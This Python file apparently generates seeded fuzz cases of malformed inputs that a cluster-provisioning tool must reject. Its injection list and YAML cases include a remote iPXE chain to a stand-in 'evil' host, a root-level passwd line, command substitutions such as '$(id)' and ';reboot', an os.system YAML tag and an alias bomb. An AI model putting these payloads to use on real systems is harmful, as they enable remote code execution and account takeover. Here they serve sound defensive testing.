"""A seeded generator of bad inputs for the fuzz tier: each case is a program run that must be refused.

Every value generated is bad for its field's grammar by construction (kestrel/names.py, kestrel/config.py), so a
case that exits 0 is a hole in the grammar, not a lucky valid value."""

from __future__ import annotations

import json
import random
from collections.abc import Callable
from dataclasses import dataclass, field
from typing import Any

MAC = "52:54:00:cc:00:09"
GOOD_CONFIG: dict[str, Any] = {
    "cluster": {"name": "lab", "domain": "cluster.local", "frontend_name": "frontend"},
    "network": {"interface": "eth1", "address": "10.10.0.1/24", "dhcp_range": ["10.10.0.100", "10.10.0.199"]},
    "boot": {"method": "ipxe-http", "http_port": 80, "menu_timeout": 3, "cmdline": "console=ttyS0"},
    "nfs": {"server": "kernel", "home": "/home"},
    "nodes": {"name_pattern": "node{index:02d}", "default_image": "default", "default_group": "compute"},
    "modules": ["core", "nfsroot", "sshd", "openmpi"],
    "users": {"uid_range": [2000, 2999], "shell": "/bin/bash", "admin_group": "sudo"},
}
GOOD_IMAGE: dict[str, Any] = {"from": "debian-bookworm", "packages": [], "cmdline": ""}

# What a hostile admin or a broken tool writes into a value: each breaks out of some target format.
INJECT = [
    "\nconf-file=/tmp/x.conf",
    "\nchain http://evil/own.ipxe",
    "\nevil::0:0:x:/root:/bin/sh\n",
    "\r\n",
    "\x00",
    "\x1b[31m",
    "\t",
    " ",
    "#",
    '"',
    "'",
    "`id`",
    "$(id)",
    ";reboot",
    "\\",
    "\u2028",
    "\x85",
    ",",
    ":",
    "{",
]


@dataclass
class Case:
    """One refused run: PROGRAM ARGS on a tree whose FILES (system path -> bytes) were set first; the one
    stderr line must name NAMES (the file or the argument)."""

    kind: str
    program: str
    args: list[str]
    names: str
    files: dict[str, bytes] = field(default_factory=dict)
    special: str | None = None  # a file that is not one: fifo, dir, devzero, big, dangling (at files' first path)

    def describe(self) -> str:
        return f"{self.kind}: kestrel-{self.program} {' '.join(map(repr, self.args))} {self.special or ''}"


def _bad_label(r: random.Random, base: str = "node7") -> str:
    """Not an RFC 1123 label / not a plain name."""
    choices: list[Callable[[], str]] = [
        lambda: base + r.choice(INJECT),
        lambda: r.choice(INJECT) + base,
        lambda: base[:2] + r.choice(INJECT) + base[2:],
        lambda: base.upper(),
        lambda: "-" + base,
        lambda: base + "-",
        lambda: "x" * r.randint(64, 300),
        lambda: "",
        lambda: "../" + base,
        lambda: base + "/x",
        lambda: base + "_" + "x",
        lambda: base + "." + "x",
        lambda: "nöde",
    ]
    return r.choice(choices)()


def bad_node_name(r: random.Random) -> str:
    if r.random() < 0.4:
        return r.choice(["ignore", "infinite", "localhost", "deleted", "12h", "3600", "0", "45m", "2d", "1w", "7s"])
    return _bad_label(r)


def bad_name(r: random.Random) -> str:
    """Bad for check_name (image, module, admin group)."""
    return r.choice(
        [
            lambda: "default" + r.choice([c for c in INJECT if c not in ("",)]),
            lambda: "DEFAULT",
            lambda: "..",
            lambda: "a..b",
            lambda: "x" * r.randint(64, 200),
            lambda: "",
            lambda: "-x" if False else "_x",
            lambda: "a/b",
        ]
    )()


def bad_path(r: random.Random) -> str:
    return r.choice(
        [
            lambda: "/home" + r.choice(INJECT),
            lambda: "/var/lib/" + r.choice(INJECT) + "x",
            lambda: "home",
            lambda: "",
            lambda: "/srv/../etc",
            lambda: "/srv/./x",
            lambda: "/srv//x",
            lambda: "/srv/x/",
            lambda: "/" + "x" * 256,
            lambda: "/" + "a/" * 2100,
            lambda: "~/x",
            lambda: "/srv/é",
        ]
    )()


def bad_cmdline(r: random.Random) -> str:
    bad = [c for c in INJECT if c not in (" ", ",", ":")]
    return r.choice(
        [
            lambda: "quiet" + r.choice(bad),
            lambda: r.choice(bad) + "quiet",
            lambda: "console=ttyS0 " + r.choice(bad) + " ro",
            lambda: "x" * 2049,
            lambda: "a}b",
        ]
    )()


def bad_url(r: random.Random) -> str:
    bad = [c for c in INJECT if c not in (",", ":", "{", ";", ";reboot", "$(id)")]  # a URL may hold these
    return r.choice(
        [
            lambda: "http://deb.debian.org/debian" + r.choice(bad),
            lambda: "ftp://deb.debian.org/debian",
            lambda: "deb.debian.org",
            lambda: "",
            lambda: "file://relative",
            lambda: "http://x/" + "y" * 2100,
        ]
    )()


def bad_int(r: random.Random, low: int, high: int) -> Any:
    return r.choice([low - r.randint(1, 10**6), high + r.randint(1, 10**6), str(low), 1.5, True, None, [low], 10**40])


def bad_pattern(r: random.Random) -> str:
    return r.choice(
        [
            "node{index:09999999999d}",
            "node{index:0999d}",
            "node{index:>200}",
            "node",
            "node{index}{index}",
            "node{0}",
            "node{index!r}",
            "node{index.real}",
            "node{index[0]}",
            "{index}",
            "{index}h",
            "{index:02d}m",
            "node{index:02d}{",
            "Node{index}",
            "node_{index}",
            "node{index:x>99}",
            "node{index}" + "x" * 60,
            "node{index}\n",
            "{index:.5f}",
        ]
    )


_CONFIG_FIELDS: list[tuple[tuple[str, str], Callable[[random.Random], Any]]] = [
    (("cluster", "name"), _bad_label),
    (("cluster", "frontend_name"), _bad_label),
    (("cluster", "domain"), lambda r: r.choice(["a..b", "x" * 300, "local\nx", "-x.local", "a b.local", ""])),
    (("network", "interface"), lambda r: r.choice(["eth1\nx", "x" * 16, "eth 1", "eth1/x", "", "eth1:0;"])),
    (("network", "address"), lambda r: r.choice(["10.10.0.1", "10.10.0.0/24", "300.1.1.1/24", "x", "10.10.0.1/33"])),
    (("network", "lease_time"), lambda r: r.choice(["12x", "h", "12h\nx", "", "-1", "1 h", "forever"])),
    (("network", "leases_file"), bad_path),
    (("boot", "cmdline"), bad_cmdline),
    (("boot", "http_port"), lambda r: bad_int(r, 1, 65535)),
    (("boot", "menu_timeout"), lambda r: bad_int(r, 0, 600)),
    (("boot", "method"), lambda r: r.choice(["http", "IPXE-HTTP", "", "pxelinux\n"])),
    (("nfs", "home"), bad_path),
    (("nfs", "server"), lambda r: r.choice(["nfsd", "", "kernel "])),
    (("nodes", "name_pattern"), bad_pattern),
    (("nodes", "default_image"), bad_name),
    (("nodes", "default_group"), bad_node_name),
    (("nodes", "ssh_key"), bad_path),
    (("nodes", "first_index"), lambda r: bad_int(r, 0, 999_999)),
    (("users", "shell"), bad_path),
    (("users", "admin_group"), bad_name),
    (("users", "uid_range"), lambda r: r.choice([[999, 2000], [3000, 2000], [2000], "2000-2999", [2000, 70000]])),
]


def _set(doc: dict[str, Any], where: tuple[str, ...], value: Any) -> dict[str, Any]:
    out = json.loads(json.dumps(doc))
    node = out
    for part in where[:-1]:
        node = node.setdefault(part, {})
    node[where[-1]] = value
    return out


def bomb(r: random.Random, depth: int, width: int) -> str:
    lines = [f"a0: &a0 [{','.join(['lol'] * width)}]"]
    for i in range(1, depth + 1):
        lines.append(f"a{i}: &a{i} [{','.join([f'*a{i - 1}'] * width)}]")
    return "\n".join(lines) + "\n"


def _structural(r: random.Random, good: str) -> tuple[str | bytes, str]:
    """YAML attacks on a whole document: (text, what the message says)."""
    pos = r.randint(0, len(good))
    options: list[Callable[[], tuple[str | bytes, str]]] = [
        lambda: (bomb(r, r.randint(6, 9), r.randint(6, 10)), "aliases expand"),
        lambda: ("a: " + "[" * r.randint(40, 5000) + "]" * 10 + "\n", "nested deeper"),
        lambda: ("x:\n" + "".join("  " * i + "y:\n" for i in range(1, r.randint(40, 300))) + "\n", "nested"),
        lambda: ("base: &b {name: lab}\ncluster:\n  <<: *b\n", "merge keys"),
        lambda: ("cluster: !!python/object/apply:os.system [id]\n", "tag"),
        lambda: ("cluster: !foo {}\n", "tag"),
        lambda: (good[:pos] + r.choice(["\x00", "\x01", "\x1b", "\x7f", "\x9b"]) + good[pos:], "control"),
        lambda: (good.encode()[:pos] + bytes([r.choice([0x80, 0xC3, 0xFF, 0xFE])]) + good.encode()[pos:], "UTF-8"),
        lambda: (good + "cluster: {}\n", "duplicate"),
        lambda: ('cluster: "unterminated\n', "yaml"),
        lambda: ("cluster:\n\tname: lab\n", "yaml"),
        lambda: ("- a\n- b\n", "mapping"),
        lambda: ("just a string\n", "mapping"),
        lambda: ("x: *undefined\n", "alias"),
        lambda: (good + r.choice(["bogus: 1\n", "clusterr: {}\n"]), "unknown key"),
        lambda: ("cluster: [1, 2]\n", "cluster"),
        lambda: ("network: 5\n", "network"),
        lambda: ("# " + "x" * (1 << 20) + "\n", "larger than"),
        lambda: ("\ufeffcluster: {}\n", "control"),
    ]
    return r.choice(options)()


def config_case(r: random.Random) -> Case:
    program, args = r.choice(
        [
            ("reconfigure", ["--frontend"]),
            ("nodes", ["add", "--mac", MAC]),
            ("nodes", ["lease-event", "add", MAC, "10.10.0.150"]),
            ("users", ["add", "carol"]),
            ("images", ["build", "default", "--dry-run"]),
        ]
    )
    path = "/etc/kestrel/kestrel.yaml"
    good = json.dumps(GOOD_CONFIG, indent=1)
    if r.random() < 0.35:
        text, _ = _structural(r, good)
        data = text if isinstance(text, bytes) else text.encode()
        return Case("kestrel.yaml (yaml)", program, args, path, {path: data})
    where, gen = r.choice(_CONFIG_FIELDS)
    doc = _set(GOOD_CONFIG, where, gen(r))
    return Case("kestrel.yaml", program, args, path, {path: json.dumps(doc, indent=1).encode()})


_IMAGE_FIELDS: list[tuple[tuple[str, ...], Callable[[random.Random], Any]]] = [
    (("from",), bad_name),
    (("description",), lambda r: r.choice(["a\nb", "x" * 201, "\x00", "a\u2028b"])),
    (("suite",), bad_name),
    (("mirror",), bad_url),
    (("security_mirror",), bad_url),
    (("architecture",), bad_name),
    (("variant",), bad_name),
    (("packages",), lambda r: [r.choice(["vim\nx", "-x", "Vim", "a b", "$(id)", "", "x" * 101, "../x"])]),
    (("modules",), lambda r: [bad_name(r)]),
    (("cmdline",), bad_cmdline),
    (("updates",), lambda r: r.choice(["yes", 1, "true"])),
    (("bootstrap", "method"), lambda r: r.choice(["debootstrap2", "", "tarball"])),
    (("bootstrap", "tarball"), bad_path),
    (("bootstrap", "components"), lambda r: [bad_name(r)]),
    (("bootstrap", "packages"), lambda r: [r.choice(["a;b", "A", ""])]),
    (("nosuchkey",), lambda r: 1),
]


def image_case(r: random.Random) -> Case:
    name = "fuzzimg"
    path = f"/etc/kestrel/images/{name}.yaml"
    program, args = r.choice([("images", ["build", name, "--dry-run"]), ("images", ["explain", name])])
    if r.random() < 0.3:
        text, _ = _structural(r, json.dumps(GOOD_IMAGE))
        data = text if isinstance(text, bytes) else text.encode()
        return Case("image definition (yaml)", program, args, path, {path: data})
    where, gen = r.choice(_IMAGE_FIELDS)
    doc = _set(GOOD_IMAGE, where, gen(r))
    return Case("image definition", program, args, path, {path: json.dumps(doc).encode()})


def leases_case(r: random.Random, scratch: str) -> Case:
    """A leases file that is not one, or a lease event (what dnsmasq hands the hook) with bad fields."""
    if r.random() < 0.5:
        action, mac, ip = "add", MAC, "10.10.0.150"
        which = r.randint(0, 2)
        if which == 0:
            action = r.choice(["ad", "ADD", "add\n", "", "tftp", "init", "add;reboot"])
        elif which == 1:
            mac = r.choice(["zz:54:00:cc:00:09", "52:54:00:cc:00", "", "52:54:00:cc:00:09\n", "a" * 100, "1:2:3:4:5:6"])
        else:
            ip = r.choice(["10.10.0.300", "x", "", "10.10.0.150\n", "::1", "10.10.0.150;id", "-1"])
        bad = {0: action, 1: mac, 2: ip}[which]
        return Case("lease event", "nodes", ["lease-event", action, mac, ip], repr(bad))
    special = r.choice(["fifo", "dir", "devzero", "devnull", "big", "dangling", "missing", "symlink-devzero"])
    path = f"{scratch}/leases-{r.randint(0, 10**9)}"
    if r.random() < 0.5:
        return Case("leases file", "nodes", ["--register", "--no-verify", "--leases", path], path, special=special)
    config = _set(GOOD_CONFIG, ("network", "leases_file"), path)
    files = {"/etc/kestrel/kestrel.yaml": json.dumps(config).encode()}
    return Case("leases file (config)", "nodes", ["--register", "--no-verify"], "leases", files, special=special)


def argument_case(r: random.Random) -> Case:
    which = r.randint(0, 11)
    if which == 0:
        v = bad_node_name(r)
        return Case("node argument", "nodes", ["add", "--mac", MAC, "--name", v], "node name" if v else "name")
    if which == 1:
        v = r.choice(["zz:zz", "", "52:54:00:cc:00:09:00", "52-54-00-cc-00", "g" * 12, "52:54:00:cc:00:09\n"])
        return Case("node argument", "nodes", ["add", "--mac", v], repr(v))
    if which == 2:
        v = r.choice(["10.10.0.300", "10.10.1.5", "10.10.0.1", "10.10.0.150", "10.10.0.255", "x", "10.10.0.2\n"])
        return Case("node argument", "nodes", ["add", "--mac", MAC, "--ip", v], v.strip() or "''")
    if which == 3:
        return Case("node argument", "nodes", ["add", "--mac", MAC, "--group", bad_node_name(r)], "group name")
    if which == 4:
        return Case("node argument", "nodes", ["add", "--mac", MAC, "--image", bad_name(r)], "image name")
    if which == 5:
        flag, v = r.choice(
            [("--name", bad_node_name(r)), ("--group", bad_node_name(r)), ("--image", bad_name(r)), ("--ip", "1.2.3")]
        )
        return Case("node argument", "nodes", ["set", "node01", flag, v], "name" if flag != "--ip" else "1.2.3")
    if which == 6:
        v = r.choice(["nosuch", "node02", "node01\n"])
        return Case("node argument", "nodes", ["remove", v], "no node named")
    if which == 7:
        v = r.choice(["Alice", "root\n", "a:b", "../x", "", "x" * 33, "1abc", "a b", "al;ce", "-x"])
        return Case("user argument", "users", ["add", v], repr(v) if v.startswith("-") else "user name")
    if which == 8:
        v = r.choice(["Alice", "../x", "", "x" * 33, "a b"])
        return Case("user argument", "users", ["remove", v], "user name")
    if which == 9:
        return Case("image argument", "images", ["remove", bad_name(r)], "image name")
    if which == 10:
        return Case("image argument", "images", ["build", bad_name(r), "--dry-run"], "image name")
    return Case("image argument", "images", ["explain", bad_name(r)], "image name")


def generate(seed: int, count: int, scratch: str) -> list[Case]:
    """COUNT cases from SEED: about 40% kestrel.yaml, 20% image definitions, 15% leases, 25% arguments."""
    r = random.Random(seed)
    makers: list[Callable[[], Case]] = [
        *[lambda: config_case(r)] * 8,
        *[lambda: image_case(r)] * 4,
        *[lambda: leases_case(r, scratch)] * 3,
        *[lambda: argument_case(r)] * 5,
    ]
    return [r.choice(makers)() for _ in range(count)]
